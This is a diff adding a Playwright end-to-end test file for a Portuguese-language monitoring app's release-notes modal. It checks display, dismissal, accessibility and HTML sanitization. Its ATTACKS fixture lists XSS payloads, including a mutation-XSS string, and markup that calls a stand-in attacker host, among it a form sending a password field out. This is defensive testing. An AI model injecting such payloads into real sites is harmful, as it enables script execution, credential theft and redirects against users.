@@ -1,0 +1,116 @@
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { openNewsHouse, type NewsHouse } from '../builders/news-house.ts';
+import { launchBrowser } from './harness/chromium.ts';
+import { expectAccessible, PHONE, signIn, visit, type Visit, type VisitOptions } from './harness/page.ts';
+
+/** What an attacker would write into a note; none of it may run, call out or change the page. */
+const ATTACKS = [
+  '<script>globalThis.attacked = 1</script>',
+  '<img src=x onerror="globalThis.attacked = 2">',
+  '<img src="https://attacker.invalid/pixel.png">',
+  '<svg onload="globalThis.attacked = 3"><script>globalThis.attacked = 4</script></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=globalThis.attacked=5&gt;">',
+  '<a href="javascript:globalThis.attacked=6">js</a>',
+  '<a href="http://plain.invalid/">plain</a>',
+  '<a href="data:text/html,<script>1</script>">data</a>',
+  '<a href="https://example.com/changes" onclick="globalThis.attacked = 7" target="_self">changes</a>',
+  '<iframe src="https://attacker.invalid/"></iframe><object data="x"></object><embed src="x">',
+  '<style>body { display: none }</style><link rel="stylesheet" href="https://attacker.invalid/x.css">',
+  '<p style="position:fixed;inset:0" class="x" id="root" onmouseover="globalThis.attacked = 8">styled</p>',
+  '<form action="https://attacker.invalid/"><input name="password"><button>send</button></form>',
+  '<base href="https://attacker.invalid/"><meta http-equiv="refresh" content="0;url=https://attacker.invalid/">',
+];
+const notes = { data: [{ date: '2026-11-20', content: ['<h2>Mapa mais rápido</h2><p>As frotas abrem <strong>na hora</strong>.</p>', ...ATTACKS] }, { date: '2026-01-01', content: ['<p>Velha</p>'] }] };
+
+let repository: Server;
+let house: NewsHouse;
+let browser: Browser;
+beforeAll(async () => {
+  repository = createServer((_, reply) => reply.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(notes)));
+  await new Promise<void>((resolve) => repository.listen(0, '127.0.0.1', resolve));
+  house = await openNewsHouse({ RELEASE_NOTES_URL: `http://127.0.0.1:${(repository.address() as AddressInfo).port}/notes.json` });
+  browser = await launchBrowser();
+});
+afterAll(async () => {
+  await browser?.close();
+  await house?.close();
+  repository?.close();
+});
+
+async function open(login: string, options: VisitOptions = {}, url = house.url): Promise<Visit> {
+  const opened = await visit(browser, `${url}/monitoring/login`, options);
+  await signIn(opened.page, url, login);
+  return opened;
+}
+const dialogOf = (page: Page) => page.getByRole('dialog', { name: /Novidades|What's new/ });
+
+test('the newest release note is shown at the start, on the indicators where staff land, until the person does not want it again (PSH-17, PSH-18, IND-08)', async () => {
+  const { page, close } = await open('operador');
+  await page.goto(`${house.url}/monitoring/indicators`);
+  const dialog = dialogOf(page);
+  await dialog.waitFor();
+  expect(await dialog.innerText()).toContain('20 de novembro de 2026');
+  expect(await dialog.innerText()).toContain('Mapa mais rápido');
+  expect(await dialog.innerText()).not.toContain('Velha');
+  await dialog.getByRole('button', { name: 'Entendi' }).click();
+  await dialog.waitFor({ state: 'hidden' });
+  await page.reload();
+  await dialog.waitFor();
+  await dialog.getByRole('checkbox', { name: 'Não mostrar de novo' }).check();
+  const saved = page.waitForResponse((answer) => answer.request().method() === 'PATCH' && answer.url().endsWith('/metadata'));
+  await dialog.getByRole('button', { name: 'Entendi' }).click();
+  expect((await saved).request().postDataJSON()).toEqual({ readReleaseNotesMonitoring: true, lastReleaseNotesMonitoring: '2026-11-20' });
+  const read = page.waitForResponse(/release-notes/);
+  await page.reload();
+  await read;
+  // The menu opens once the shell stands, which is when a note would be shown.
+  await page.getByRole('button', { name: /Otávio Leme/ }).click();
+  expect(await dialog.count()).toBe(0);
+  await close();
+}, 120_000);
+
+test('nothing of a note runs, calls out, leads astray or changes the page (PSH-28)', async () => {
+  const { page, context, close } = await open('cliente');
+  const asked: string[] = [];
+  context.on('request', (request) => asked.push(request.url()));
+  const dialog = dialogOf(page);
+  await dialog.waitFor();
+  await dialog.getByText('styled').hover();
+  const found = await dialog.evaluate((element) => ({
+    attacked: (globalThis as { attacked?: number }).attacked,
+    forbidden: element.querySelectorAll('script, style, link, iframe, object, embed, form, meta, base, section svg, section input, section img').length,
+    attributes: [...element.querySelectorAll('section *')].flatMap(({ attributes }) => [...attributes].map(({ name }) => name)).filter((name) => !['href', 'target', 'rel', 'alt', 'src'].includes(name)),
+    links: [...element.querySelectorAll('section a')].map((link) => [link.textContent, link.getAttribute('href'), link.getAttribute('rel'), link.getAttribute('target')]),
+  }));
+  expect(found.attacked).toBeUndefined();
+  expect([found.forbidden, found.attributes]).toEqual([0, []]);
+  expect(found.links.filter(([, href]) => href !== null)).toEqual([['changes', 'https://example.com/changes', 'noopener noreferrer', '_blank']]);
+  expect(asked.filter((url) => url.includes('invalid'))).toEqual([]);
+  expect(new URL(page.url()).origin).toBe(house.url);
+  await close();
+}, 90_000);
+
+test.each([
+  ['light', 'pt-BR', undefined],
+  ['dark', 'en-US', PHONE],
+] as const)('the note is accessible (%s, %s)', async (theme, language, size) => {
+  const { page, close } = await open('vizinho', { theme, language, size });
+  await dialogOf(page).waitFor();
+  await expectAccessible(page);
+  await close();
+}, 90_000);
+
+test('without an address of the notes no modal is shown (PSH-22)', async () => {
+  const plain = await openNewsHouse();
+  const { page, close } = await open('operador', {}, plain.url);
+  const read = page.waitForResponse(/release-notes/);
+  await page.reload();
+  expect(await (await read).json()).toEqual({ note: null });
+  await page.getByRole('button', { name: /Otávio Leme/ }).click();
+  expect(await dialogOf(page).count()).toBe(0);
+  await close();
+  await plain.close();
+}, 90_000);
